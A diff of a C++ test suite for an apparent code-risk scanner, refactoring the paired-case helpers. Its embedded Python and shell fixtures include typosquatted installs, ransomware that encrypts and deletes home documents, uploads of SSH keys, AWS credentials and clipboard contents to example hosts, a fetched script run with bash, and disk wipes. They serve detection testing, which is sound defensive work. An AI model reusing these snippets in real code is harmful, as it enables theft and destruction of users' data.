@@ -9,20 +9,6 @@
 namespace mai::assess::test {
 namespace {
 
-// A program that installs a typosquat, and its twin with `genuine` written
-// where `typosquat` stands: BLOCKED for the first, an ordinary install
-// (MEDIUM) for the second.
-void check_with_genuine_twin(const char* what, const std::string& program, const std::string& typosquat,
-                             const std::string& genuine, Language language = Language::python) {
-  std::string twin = program;
-  twin.replace(twin.find(typosquat), typosquat.size(), genuine);
-  const Case cases[] = {
-      {what, B, program.c_str(), "KNOWN-MALICIOUS-PACKAGE", language},
-      {"the same with the genuine name", M, twin.c_str(), "INSTALLS-PACKAGES", language},
-  };
-  for (const auto& c : cases) check(c);
-}
-
 // Instances of one class each keep their attributes: a list of requirement
 // objects formats each name with its own pin. With one store per class every
 // name had been crossed with every pin, past sixteen combinations the pins
@@ -55,7 +41,8 @@ def install(groups):
     return subprocess.call([sys.executable, "-m", "pip", "install"] + specs)
 
 install(["base", "net"])
-)py", "\"reqe\", \"usts\"", "\"reque\", \"sts\"");
+)py",
+                          "\"reqe\", \"usts\"", "\"reque\", \"sts\"");
 
   check_with_genuine_twin("a typosquat among instances whose __init__ stores the parts", R"py(
 import subprocess
@@ -73,14 +60,16 @@ WANTED = [Requirement("flask", "3.0.0"), Requirement("gunicorn", "21.2.0"), Requ
 
 pins = [r.pin() for r in WANTED]
 subprocess.run(["pip", "install", *pins], check=True)
-)py", "colourama", "colorama");
+)py",
+                          "colourama", "colorama");
 }
 
 // `cmd += specs` where specs is one of two lists (a function that returns a
 // known list or one built from its arguments) extends cmd with each, as
 // `cmd + specs` does; it had kept only what their first elements share.
 TEST(HundredAndSeventiethRoundClasses, ExtendingWithOneOfSeveralLists) {
-  check_with_genuine_twin("a typosquat in one of a function's two returned lists, added with +=", R"py(
+  check_with_genuine_twin(
+      "a typosquat in one of a function's two returned lists, added with +=", R"py(
 import subprocess, sys
 
 def select(groups):
@@ -94,7 +83,8 @@ def select(groups):
 cmd = [sys.executable, "-m", "pip", "install", "--disable-pip-version-check"]
 cmd += select(sys.argv[1:])
 subprocess.run(cmd, check=False)
-)py", "colourama", "colorama");
+)py",
+      "colourama", "colorama");
 }
 
 // Instances joined (either of two, or any of a list's unknown rest) read
@@ -174,15 +164,10 @@ for dirpath, _dirs, files in os.walk(Path.home() / "Documents"):
         ops["write"](path.with_name(path.name + ".frozen"), sealed)
         ops["drop"](path)
 )py";
-  std::string twin = program;
-  const std::string removal = "        ops[\"drop\"](path)\n";
-  twin.replace(twin.find(removal), removal.size(), "");
-  const Case cases[] = {
-      {"walked files read, encrypted and deleted through unbound methods", B, program.c_str(),
-       "RANSOMWARE-ENCRYPT-AND-DELETE"},
-      {"encrypted copies beside the originals, which stay", L, twin.c_str()},
-  };
-  for (const auto& c : cases) check(c);
+  check_with_twin({"walked files read, encrypted and deleted through unbound methods", B,
+                   program.c_str(), "RANSOMWARE-ENCRYPT-AND-DELETE"},
+                  "        ops[\"drop\"](path)\n", "",
+                  "encrypted copies beside the originals, which stay", L);
 }
 
 // A Request has each URL its argument may be (an environment variable or its
@@ -214,10 +199,10 @@ post("Invoices are out")
 for doc in paperwork():
     post("Paperwork", [doc])
 )py";
-  std::string message_only = program.substr(0, program.find("for doc in paperwork():"));
-  std::string configured = program;
-  const std::string hook = "https://hooks.example.net/api/webhooks/1180/yard-office";
-  configured.replace(configured.find(hook), hook.size(), "https://files.example.net/upload");
+  const std::string message_only = program.substr(0, program.find("for doc in paperwork():"));
+  const std::string configured =
+      replaced(program, "https://hooks.example.net/api/webhooks/1180/yard-office",
+               "https://files.example.net/upload");
   const Case cases[] = {
       {"home documents attached to a chat webhook", B, program.c_str(), "EXFILTRATION"},
       {"only the message to the webhook", L, message_only.c_str()},
@@ -248,14 +233,9 @@ async def main():
 
 asyncio.run(main())
 )py";
-  std::string twin = program;
-  const std::string removal = "    os.remove(path)\n";
-  twin.replace(twin.find(removal), removal.size(), "");
-  const Case cases[] = {
-      {"walked files read in a thread, encrypted, deleted", B, program.c_str(), "RANSOMWARE-ENCRYPT-AND-DELETE"},
-      {"encrypted copies only", L, twin.c_str()},
-  };
-  for (const auto& c : cases) check(c);
+  check_with_twin({"walked files read in a thread, encrypted, deleted", B, program.c_str(),
+                   "RANSOMWARE-ENCRYPT-AND-DELETE"},
+                  "    os.remove(path)\n", "", "encrypted copies only", L);
 }
 
 // A variable the code sets in its own environment (a temporary file's name)
@@ -281,14 +261,11 @@ def ship():
 stage()
 ship()
 )py";
-  std::string twin = program;
-  const std::string key_line = ",\n            \"key\": (pathlib.Path.home() / \".ssh\" / \"id_ed25519\").read_text()";
-  twin.replace(twin.find(key_line), key_line.size(), "");
-  const Case cases[] = {
-      {"a key staged in a file named by the environment, then uploaded", B, program.c_str(), "EXFILTRATION"},
-      {"only the stock sheet staged and uploaded", L, twin.c_str()},
-  };
-  for (const auto& c : cases) check(c);
+  check_with_twin(
+      {"a key staged in a file named by the environment, then uploaded", B, program.c_str(),
+       "EXFILTRATION"},
+      ",\n            \"key\": (pathlib.Path.home() / \".ssh\" / \"id_ed25519\").read_text()", "",
+      "only the stock sheet staged and uploaded", L);
 }
 
 // asyncio.gather gives the list of what its awaitables give (collectors run
@@ -315,14 +292,12 @@ async def main():
 
 asyncio.run(main())
 )py";
-  std::string twin = program;
-  for (const std::string from : {"HOME / \".aws\" / \"credentials\"", "HOME / \".ssh\" / \"id_rsa\""})
-    twin.replace(twin.find(from), from.size(), "Path(\"stock.csv\")");
-  const Case cases[] = {
-      {"credentials gathered by executor jobs, posted from a thread", B, program.c_str(), "EXFILTRATION"},
-      {"the shop's stock sheet the same way", L, twin.c_str()},
-  };
-  for (const auto& c : cases) check(c);
+  const std::string twin =
+      replaced(replaced(program, "HOME / \".aws\" / \"credentials\"", "Path(\"stock.csv\")"),
+               "HOME / \".ssh\" / \"id_rsa\"", "Path(\"stock.csv\")");
+  check({"credentials gathered by executor jobs, posted from a thread", B, program.c_str(),
+         "EXFILTRATION"});
+  check({"the shop's stock sheet the same way", L, twin.c_str()});
 }
 
 // A tar archive written into a named temporary file (fileobj=) is that
@@ -339,14 +314,10 @@ spool.close()
 with open(spool.name, "rb") as fh:
     requests.post("https://profiles.example.net/upload", data=fh.read(), timeout=30)
 )py";
-  std::string twin = program;
-  const std::string from = "str(Path.home() / \".aws\" / \"credentials\")";
-  twin.replace(twin.find(from), from.size(), "\"orders.csv\"");
-  const Case cases[] = {
+  check_with_twin(
       {"credentials archived into a temporary file, uploaded", B, program.c_str(), "EXFILTRATION"},
-      {"the shop's orders archived the same way", L, twin.c_str()},
-  };
-  for (const auto& c : cases) check(c);
+      "str(Path.home() / \".aws\" / \"credentials\")", "\"orders.csv\"",
+      "the shop's orders archived the same way", L);
 }
 
 // MD5 in a function named for a cache key is a cache key, whatever the
@@ -400,15 +371,10 @@ stage="$(mktemp -d)"
 fetch "https://updates.example.com/pos/payments/apply.sh" "$stage/apply"
 bash "$stage/apply"
 )sh";
-  std::string twin = program;
-  const std::string run = "bash \"$stage/apply\"";
-  twin.replace(twin.find(run), run.size(), "ls -l \"$stage/apply\"");
-  const Case cases[] = {
-      {"a script fetched by a command read into an array, then run", B, program.c_str(), "REMOTE-CODE-EXECUTION",
-       SH},
-      {"the same script fetched and listed", L, twin.c_str(), nullptr, SH},
-  };
-  for (const auto& c : cases) check(c);
+  check_with_twin({"a script fetched by a command read into an array, then run", B, program.c_str(),
+                   "REMOTE-CODE-EXECUTION", SH},
+                  "bash \"$stage/apply\"", "ls -l \"$stage/apply\"",
+                  "the same script fetched and listed", L);
 }
 
 // "module:attr".partition(":") splits as Python does, so a grabber loaded by
@@ -428,14 +394,10 @@ clip = _load(GRABBERS["clipboard"])()
 req = urllib.request.Request("https://review.example.com/in", data=json.dumps({"clip": clip}).encode())
 urllib.request.urlopen(req, timeout=15)
 )py";
-  std::string twin = program;
-  const std::string spec = "pyperclip:paste";
-  twin.replace(twin.find(spec), spec.size(), "platform:python_version");
-  const Case cases[] = {
+  check_with_twin(
       {"the clipboard read through a partitioned spec, sent", B, program.c_str(), "EXFILTRATION"},
-      {"the Python version read the same way, sent", L, twin.c_str()},
-  };
-  for (const auto& c : cases) check(c);
+      "pyperclip:paste", "platform:python_version", "the Python version read the same way, sent",
+      L);
 }
 
 // eval of a plain line naming a function of the script (a table of steps)
@@ -457,14 +419,11 @@ for k in 1 2; do
     eval "${steps[$k]}"
 done
 )sh";
-  std::string twin = program;
-  for (const std::string from : {"clear_profile $HOME", "reset_disk /dev/sda"})
-    twin.replace(twin.find(from), from.size(), "clear_profile ./logs/old");
-  const Case cases[] = {
-      {"steps run by eval wipe home and a disk", B, program.c_str(), "WIPE", SH},
-      {"steps run by eval remove the script's old logs", L, twin.c_str(), nullptr, SH},
-  };
-  for (const auto& c : cases) check(c);
+  const std::string twin =
+      replaced(replaced(program, "clear_profile $HOME", "clear_profile ./logs/old"),
+               "reset_disk /dev/sda", "clear_profile ./logs/old");
+  check({"steps run by eval wipe home and a disk", B, program.c_str(), "WIPE", SH});
+  check({"steps run by eval remove the script's old logs", L, twin.c_str(), nullptr, SH});
 }
 
 // type(self) of an instance of the code's own class is that class, so a
@@ -484,14 +443,9 @@ class TemplateKit:
 
 TemplateKit().load()
 )py";
-  std::string twin = program;
-  const std::string from = "\"ex\" + \"ec\"";
-  twin.replace(twin.find(from), from.size(), "\"pr\" + \"int\"");
-  const Case cases[] = {
-      {"a decoded blob run by exec reached through type(self)", B, program.c_str(), "EXEC-DECODED-PAYLOAD"},
-      {"the same blob printed", L, twin.c_str()},
-  };
-  for (const auto& c : cases) check(c);
+  check_with_twin({"a decoded blob run by exec reached through type(self)", B, program.c_str(),
+                   "EXEC-DECODED-PAYLOAD"},
+                  "\"ex\" + \"ec\"", "\"pr\" + \"int\"", "the same blob printed", L);
 }
 
 // A function given instances of one class (a dataclass of housekeeping
@@ -523,14 +477,9 @@ for t in [Target("build output", [Path("build") / "app.whl"]),
           Target("session leftovers", [home / ".bash_history"], mode="truncate")]:
     apply(t)
 )py";
-  std::string twin = program;
-  const std::string from = "home / \".bash_history\"";
-  twin.replace(twin.find(from), from.size(), "Path(\"build\") / \"app.tar\"");
-  const Case cases[] = {
-      {"the second of two targets truncates the shell history", B, program.c_str()},
-      {"both targets are build output", L, twin.c_str()},
-  };
-  for (const auto& c : cases) check(c);
+  check_with_twin({"the second of two targets truncates the shell history", B, program.c_str()},
+                  "home / \".bash_history\"", "Path(\"build\") / \"app.tar\"",
+                  "both targets are build output", L);
 }
 
 }  // namespace
